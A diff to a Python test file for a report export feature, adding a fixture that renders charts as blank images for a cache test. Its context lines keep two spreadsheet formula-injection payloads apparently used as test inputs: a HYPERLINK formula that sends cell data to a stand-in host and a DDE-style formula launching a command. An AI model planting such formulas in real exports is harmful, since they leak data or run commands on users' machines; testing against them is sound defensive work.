@@ -16,10 +16,19 @@ import pytest
 import snapshots
 from reports import export_cache
 from reports.export import export
+from tests.report_charts import blank_charts
 
 PROJECT = Path(__file__).resolve().parent.parent
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
 FORMULA_INTENTION = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def charts_as_blank_images():
+    """Charts as blank images of their shape (``tests/report_charts.py``): the cache keeps whatever the renderer
+    wrote, and Chromium drew Lewisham's charts for a test that counts renders."""
+    with blank_charts():
+        yield
 
 
 @pytest.fixture
@@ -28,6 +37,7 @@ def lewisham(service, temp_store, monkeypatch, tmp_path):
     return temp_store, snapshots.create(service, temp_store, "lewisham", "2025-03", "tester")
 
 
+@pytest.mark.usefixtures("charts_as_blank_images")
 def test_an_export_is_rendered_once_and_then_served_from_the_cache(lewisham, monkeypatch, tmp_path) -> None:
     store, snap = lewisham
     renders = []
